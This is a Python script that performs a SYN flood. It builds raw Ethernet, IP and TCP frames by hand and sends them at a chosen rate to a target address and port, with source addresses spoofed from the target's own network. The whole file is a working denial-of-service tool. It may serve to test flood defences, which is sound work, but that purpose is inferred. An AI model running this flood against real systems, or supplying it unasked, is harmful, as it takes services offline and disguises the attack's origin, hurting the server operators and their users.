"""SYNs from unused addresses: syn_flood.py INTERFACE ADDRESS PORT RATE SECONDS

Says `flooding` once a second of them has been sent, and how many were sent at the end. Addresses are of ADDRESS's own network.
"""
import random
import socket
import struct
import sys
import time

from frames import checksum, station_of

interface, address, port, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
# The kernel finds out where the server is.
socket.create_connection((address, port), timeout=10).close()
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind((interface, 0))
ethernet = station_of(address) + raw.getsockname()[4] + b"\x08\x00"
server = socket.inet_aton(address)
OPTIONS = bytes.fromhex("020405b4" "0402" "080a0000000100000000" "01" "030307")


def syn():
    source = server[:3] + bytes([random.randrange(100, 250)])
    ports = struct.pack("!HH", random.randrange(1024, 65536), port)
    head = ports + struct.pack("!IIBBH", random.getrandbits(32), 0, (20 + len(OPTIONS)) // 4 << 4, 2, 64240)
    tail = b"\0\0" + OPTIONS
    pseudo = source + server + struct.pack("!HH", 6, len(head) + 2 + len(tail))
    tcp = head + struct.pack("!H", checksum(pseudo + head + b"\0\0" + tail)) + tail
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + source + server
    return ethernet + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


random.seed(1)
start = time.monotonic()
sent = 0
said = False
while (elapsed := time.monotonic() - start) < seconds:
    for _ in range(min(int(elapsed * rate) - sent, 200)):
        raw.send(syn())
        sent += 1
    if elapsed > 1 and not said:
        said = True
        print("flooding", flush=True)
    time.sleep(0.001)
print("sent", sent, flush=True)
